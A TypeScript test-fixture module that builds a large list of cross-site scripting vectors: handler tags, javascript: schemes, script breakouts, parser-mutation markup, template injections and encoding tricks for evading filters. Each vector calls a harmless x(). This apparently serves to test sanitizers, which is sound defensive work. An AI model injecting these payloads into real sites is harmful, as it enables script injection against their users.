/** What each vector would call; the page under test has it as a global function. */
const CALL = 'x()';

const HANDLERS = [
  ['img src', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe', 'onload'],
  ['video src', 'onerror'],
  ['audio src', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data', 'onerror'],
  ['embed src', 'onload'],
  ['style', 'onload'],
  ['link rel=stylesheet href', 'onerror'],
  ['script src', 'onerror'],
  ['a style=animation:a', 'onanimationstart'],
  ['p contenteditable autofocus', 'onfocusin'],
  ['div tabindex=1 autofocus', 'onpointerover'],
  ['xss', 'onclick'],
  ['dialog open', 'onclose'],
] as const;

/** How a tag with a handler may be written so that a filter does not know it. */
const WRITINGS: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}=${CALL}>`,
  (tag, handler) => `"><${tag} ${handler}=${CALL}>`,
  (tag, handler) => `<${tag.replaceAll(' ', '/')}/${handler}="${CALL}"//`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}=${CALL}>`,
];

const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java&#09;script:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `%6Aavascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://%0A${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=`,
  `feed:javascript:${CALL}`,
] as const;

const CARRIERS: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => `<a href="${url}">a</a>`,
  (url) => `<iframe src="${url}">`,
  (url) => `[a](${url})`,
];

const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script >${CALL}</script >`,
  `<script/x>${CALL}</script>`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script>${CALL}`,
  `<script type=module>${CALL}</script>`,
  `<script src=data:,${CALL}></script>`,
  `<svg><script>${CALL}</script>`,
  `<svg><script href=data:,${CALL} />`,
  `</script><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</noscript><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `"-${CALL}-"`,
  `\\"-${CALL}//`,
  `';${CALL}//`,
  `";${CALL}//`,
] as const;

/** Markup that changes its meaning when it is read a second time. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src onerror=${CALL}>">`,
  `<svg><style><img src onerror=${CALL}></style>`,
  `<math><mtext><table><mglyph><style><img src onerror=${CALL}>`,
  `<math><annotation-xml encoding="text/html"><img src onerror=${CALL}>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror=${CALL}>">`,
  `<template><img src onerror=${CALL}></template>`,
  `<listing>&lt;img src onerror=${CALL}&gt;</listing>`,
  `<xmp><img src onerror=${CALL}></xmp>`,
  `<plaintext><img src onerror=${CALL}>`,
  `<title><a alt="</title><img src onerror=${CALL}>">`,
  `<!--<img alt="--><img src onerror=${CALL}>">`,
  `<![CDATA[<img src onerror=${CALL}>]]>`,
  `<?xml ?><img src onerror=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=9>a</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CALL}>#a">`,
  `<svg><foreignObject><body onload=${CALL}></foreignObject>`,
  `<math href="javascript:${CALL}">a</math>`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<form action="javascript:${CALL}"><button>a</button>`,
  `<button formaction="javascript:${CALL}">a</button>`,
  `<isindex action="javascript:${CALL}" type=image>`,
  `<object data="javascript:${CALL}">`,
  `<style>@import "javascript:${CALL}"</style>`,
  `<div style="background:url(javascript:${CALL})">`,
  `<div style="width:expression(${CALL})">`,
  `<table background="javascript:${CALL}">`,
] as const;

/** What templates, frameworks and message catalogues would run. */
const TEMPLATES = [
  `\${${CALL}}`,
  `#{${CALL}}`,
  `{{${CALL}}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$on.constructor('${CALL}')()}}`,
  `<%= ${CALL} %>`,
  `{%raw%}${CALL}{%endraw%}`,
  `[[${CALL}]]`,
  `@(${CALL})`,
  `<div v-html="'<img src onerror=${CALL}>'">`,
  `<div ng-app ng-init="${CALL}">`,
  `<div x-init="${CALL}">`,
  `{"__html":"<img src onerror=${CALL}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src onerror=${CALL}>"}}`,
  `{"type":"script","props":{"children":"${CALL}"}}`,
  `{"__proto__":{"innerHTML":"<img src onerror=${CALL}>"}}`,
  `{0, plural, other {<img src onerror=${CALL}>}}`,
  `<0>${CALL}</0>`,
  `![a](x"onerror="${CALL})`,
  `<https://x" onmouseover="${CALL}>`,
  `:[a]{onclick=${CALL}}`,
] as const;

/** The same markup behind encodings that something may undo. */
const ENCODINGS = [
  `&lt;img src onerror=${CALL}&gt;`,
  `&#60;img src onerror=${CALL}&#62;`,
  `&#x3c;img src onerror=${CALL}&#x3e;`,
  `&#0000060img src onerror=${CALL}>`,
  `&LTimg src onerror=${CALL}&GT`,
  `&amp;lt;img src onerror=${CALL}&amp;gt;`,
  `%3Cimg src onerror=${CALL}%3E`,
  `%253Cimg src onerror=${CALL}%253E`,
  `%uff1cscript%uff1e${CALL}%uff1c/script%uff1e`,
  `\\u003cimg src onerror=${CALL}\\u003e`,
  `\\x3cimg src onerror=${CALL}\\x3e`,
  `\\74img src onerror=${CALL}\\76`,
  `＜img src onerror=${CALL}＞`,
  `<img src onerror=\\u0078()>`,
  `<img src onerror=&#120;()>`,
  `<img src onerror="&#x78;&lpar;&rpar;">`,
  `<\u200Bimg src onerror=${CALL}>`,
  `\u202E>)(x=rorreno crs gmi<`,
  `<im\u00ADg src onerror=${CALL}>`,
  `\uFEFF<img src onerror=${CALL}>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `‹script›${CALL}‹/script›`,
  `<ſcript>${CALL}</ſcript>`,
  `<ıframe onload=${CALL}>`,
] as const;

/** Distinct ways to smuggle a script into a page, of every kind that is known. Each would call `x()`. */
export const XSS_VECTORS: readonly string[] = [
  ...new Set([
    ...HANDLERS.flatMap(([tag, handler]) => WRITINGS.map((write) => write(tag, handler))),
    ...CARRIERS.flatMap((carry) => SCHEMES.map(carry)),
    ...SCRIPTS,
    ...MUTATIONS,
    ...TEMPLATES,
    ...ENCODINGS,
  ]),
];

/** The vectors in as few texts as they fit in; those that are longer than `most` characters are left out. */
export const packed = (vectors: readonly string[], most: number): string[] => {
  const texts: string[] = [];
  for (const vector of vectors.filter(({ length }) => length <= most)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + vector.length <= most) texts[texts.length - 1] = `${last} ${vector}`;
    else texts.push(vector);
  }
  return texts;
};
